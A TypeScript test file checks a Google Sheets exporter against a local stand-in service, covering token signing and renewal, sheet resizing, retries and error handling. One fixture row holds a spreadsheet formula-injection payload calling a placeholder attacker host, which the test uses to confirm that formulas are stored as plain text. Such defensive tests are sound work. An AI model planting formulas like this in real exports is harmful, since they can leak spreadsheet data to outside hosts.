import { generateKeyPairSync } from 'node:crypto';
import { createServer } from 'node:net';
import type { SpreadsheetCell } from '@pretscope/core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { createGoogleSheetsExporter, type GoogleSheetsOptions } from './google-sheets-exporter.ts';
import { startSheetsStandIn, type SheetsStandIn } from './sheets-stand-in.test-support.ts';

let google: SheetsStandIn;
beforeAll(async () => {
  google = await startSheetsStandIn();
});
afterAll(() => google.close());
beforeEach(() => {
  google.calls.length = 0;
  google.assertions.length = 0;
});

const exporter = (overrides: Partial<GoogleSheetsOptions> = {}) =>
  createGoogleSheetsExporter({
    spreadsheetId: google.spreadsheetId,
    clientEmail: google.clientEmail,
    privateKey: google.privateKey,
    apiUrl: google.url,
    tokenUrl: google.tokenUrl,
    retryDelaysMs: [5, 5],
    ...overrides,
  });

async function* batches(rows: SpreadsheetCell[][], size = 2): AsyncGenerator<SpreadsheetCell[][]> {
  for (let start = 0; start < rows.length; start += size) yield rows.slice(start, start + size);
}

const leads = (n: number): SpreadsheetCell[][] =>
  Array.from({ length: n }, (_, i) => [
    i + 1,
    `client${i + 1}@example.org`,
    i % 2 === 0,
    i === 0 ? '=IMPORTXML("http://evil.example")' : 'Bonjour, j’aimerais un prêt',
  ]);

describe('Google Sheets exporter against a local stand-in', () => {
  it('signs its assertion RS256 with the account key, and writes a new sheet named after the model with its rows', async () => {
    const result = await exporter().replaceSheet({
      sheet: 'leads',
      header: ['id', 'email', 'consent', 'message'],
      expectedRows: 5,
      batches: batches(leads(5)),
    });
    const sheet = google.sheets.get('leads');
    expect(result).toEqual({
      ok: true,
      value: { url: `https://docs.google.com/spreadsheets/d/${google.spreadsheetId}/edit#gid=${sheet?.sheetId}`, rows: 5 },
    });
    expect(google.assertions).toHaveLength(1);
    expect(google.assertions[0]).toMatchObject({
      signatureValid: true,
      header: { alg: 'RS256', typ: 'JWT' },
      claims: { iss: google.clientEmail, aud: google.tokenUrl, scope: 'https://www.googleapis.com/auth/spreadsheets' },
    });
    // Every API call carries the access token the stand-in issued.
    const apiCalls = google.calls.filter((call) => call.path.startsWith('/v4/'));
    expect(new Set(apiCalls.map((call) => call.authorization))).toEqual(new Set([`Bearer ${google.issuedTokens.at(-1)}`]));
    expect(sheet).toMatchObject({ rowCount: 6, columnCount: 4, frozenRowCount: 1 });
    expect(sheet?.values).toEqual([['id', 'email', 'consent', 'message'], ...leads(5)]);
    // RAW: the formula-looking message is stored as text.
    const puts = google.calls.filter((call) => call.method === 'PUT');
    expect(puts.every((call) => call.path.includes('valueInputOption=RAW'))).toBe(true);
    expect(puts.map((call) => (call.body as { range: string }).range)).toEqual(["'leads'!A1"]);
  });

  it('replaces an existing sheet entirely: resized to the new rows and columns, cleared, written in chunks', async () => {
    const header = ['id', 'email'];
    const rows = leads(7).map((row) => row.slice(0, 2));
    const result = await exporter({ rowsPerRequest: 3 }).replaceSheet({ sheet: 'leads', header, expectedRows: 7, batches: batches(rows) });
    expect(result).toMatchObject({ ok: true, value: { rows: 7 } });
    const sheet = google.sheets.get('leads');
    expect(sheet?.values).toEqual([header, ...rows]);
    expect(sheet).toMatchObject({ rowCount: 8, columnCount: 2 });
    const writes = google.calls
      .filter((call) => call.method === 'PUT' || call.path.endsWith(':clear'))
      .map((call) => (call.method === 'PUT' ? (call.body as { range: string }).range : 'clear'));
    expect(writes).toEqual(['clear', "'leads'!A1", "'leads'!A4", "'leads'!A7"]);
  });

  it('keeps its access token for the next exports until shortly before it expires', async () => {
    let now = Date.now();
    const shared = exporter({ now: () => now });
    const write = () => shared.replaceSheet({ sheet: 'authors', header: ['id'], expectedRows: 1, batches: batches([[1]]) });
    expect(await write()).toMatchObject({ ok: true });
    expect(await write()).toMatchObject({ ok: true });
    expect(google.assertions).toHaveLength(1);
    // A token given for 61 s is renewed a minute before it lapses: one second later.
    google.tokenLifetimeSeconds = 61;
    try {
      const short = exporter({ now: () => now });
      expect(await short.replaceSheet({ sheet: 'authors', header: ['id'], expectedRows: 0, batches: batches([]) })).toMatchObject({
        ok: true,
      });
      expect(await short.replaceSheet({ sheet: 'authors', header: ['id'], expectedRows: 0, batches: batches([]) })).toMatchObject({
        ok: true,
      });
      expect(google.assertions).toHaveLength(2);
      now += 1_500;
      expect(await short.replaceSheet({ sheet: 'authors', header: ['id'], expectedRows: 0, batches: batches([]) })).toMatchObject({
        ok: true,
      });
      expect(google.assertions).toHaveLength(3);
    } finally {
      google.tokenLifetimeSeconds = 3599;
    }
  });

  it('grows the grid before writing when more rows come than counted, and trims it when fewer do', async () => {
    const more = await exporter({ rowsPerRequest: 2 }).replaceSheet({
      sheet: 'products',
      header: ['id'],
      expectedRows: 1,
      batches: batches([[1], [2], [3], [4]]),
    });
    expect(more).toMatchObject({ ok: true, value: { rows: 4 } });
    expect(google.sheets.get('products')).toMatchObject({ rowCount: 5, values: [['id'], [1], [2], [3], [4]] });
    const fewer = await exporter().replaceSheet({ sheet: 'products', header: ['id'], expectedRows: 10, batches: batches([[9]]) });
    expect(fewer).toMatchObject({ ok: true, value: { rows: 1 } });
    expect(google.sheets.get('products')).toMatchObject({ rowCount: 2, values: [['id'], [9]] });
    const empty = await exporter().replaceSheet({ sheet: 'products', header: ['id', 'name'], expectedRows: 0, batches: batches([]) });
    expect(empty).toMatchObject({ ok: true, value: { rows: 0 } });
    expect(google.sheets.get('products')).toMatchObject({ rowCount: 2, columnCount: 2, values: [['id', 'name']] });
  });

  it('gets a new token on the next export when Google stops accepting the one it has', async () => {
    const shared = exporter();
    const write = () => shared.replaceSheet({ sheet: 'authors', header: ['id'], expectedRows: 0, batches: batches([]) });
    expect(await write()).toMatchObject({ ok: true });
    google.revokeTokens();
    expect(await write()).toMatchObject({ ok: false, error: { type: 'spreadsheet/refused', status: 401 } });
    expect(await write()).toMatchObject({ ok: true });
    expect(google.assertions).toHaveLength(2);
  });

  it('retries a passing server error and a quota answer, then succeeds', async () => {
    google.failNext(/\/values\//, 503);
    google.failNext(/^\/v4\/spreadsheets\/[^/]+$/, 429);
    const result = await exporter().replaceSheet({ sheet: 'users', header: ['id'], expectedRows: 1, batches: batches([[1]]) });
    expect(result).toMatchObject({ ok: true, value: { rows: 1 } });
    expect(google.sheets.get('users')?.values).toEqual([['id'], [1]]);
  });

  it('answers refusals as data with Google’s explanation: no permission, unknown spreadsheet, a key Google does not know', async () => {
    google.failNext(/\/values\//, 403);
    expect(await exporter().replaceSheet({ sheet: 'users', header: ['id'], expectedRows: 0, batches: batches([]) })).toEqual({
      ok: false,
      error: { type: 'spreadsheet/refused', status: 403, detail: 'PERMISSION_DENIED: The caller does not have permission' },
    });
    expect(
      await exporter({ spreadsheetId: 'inconnu' }).replaceSheet({ sheet: 'users', header: ['id'], expectedRows: 0, batches: batches([]) }),
    ).toEqual({ ok: false, error: { type: 'spreadsheet/refused', status: 404, detail: 'NOT_FOUND: Requested entity was not found.' } });
    const otherKey = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
    expect(
      await exporter({ privateKey: otherKey }).replaceSheet({ sheet: 'users', header: ['id'], expectedRows: 0, batches: batches([]) }),
    ).toEqual({ ok: false, error: { type: 'spreadsheet/refused', status: 400, detail: 'invalid_grant: Invalid JWT Signature.' } });
    expect(google.assertions.at(-1)?.signatureValid).toBe(false);
  });

  it('reads a key whose line breaks were written as \\n in the environment', async () => {
    const flattened = google.privateKey.replaceAll('\n', '\\n');
    expect(
      await exporter({ privateKey: flattened }).replaceSheet({ sheet: 'authors', header: ['id'], expectedRows: 0, batches: batches([]) }),
    ).toMatchObject({ ok: true });
  });

  it('gives up on a service that does not answer in time, or does not listen', async () => {
    google.stallNext(/^\/token$/, 500);
    google.stallNext(/^\/token$/, 500);
    google.stallNext(/^\/token$/, 500);
    const slow = await exporter({ timeoutMs: 100 }).replaceSheet({ sheet: 'users', header: ['id'], expectedRows: 0, batches: batches([]) });
    expect(slow).toEqual({
      ok: false,
      error: { type: 'spreadsheet/unreachable', detail: `${new URL(google.url).host}: no answer within 100 ms` },
    });
    const port = await closedPort();
    const closed = await exporter({ tokenUrl: `http://127.0.0.1:${port}/token`, retryDelaysMs: [] }).replaceSheet({
      sheet: 'users',
      header: ['id'],
      expectedRows: 0,
      batches: batches([]),
    });
    expect(closed).toMatchObject({
      ok: false,
      error: { type: 'spreadsheet/unreachable', detail: expect.stringMatching(new RegExp(`^127\\.0\\.0\\.1:${port}: .*ECONNREFUSED`)) },
    });
  });
});

/** A port nothing listens on: one the system just gave and took back. */
function closedPort(): Promise<number> {
  return new Promise((resolve) => {
    const probe = createServer().listen(0, '127.0.0.1', () => {
      const { port } = probe.address() as { port: number };
      probe.close(() => resolve(port));
    });
  });
}
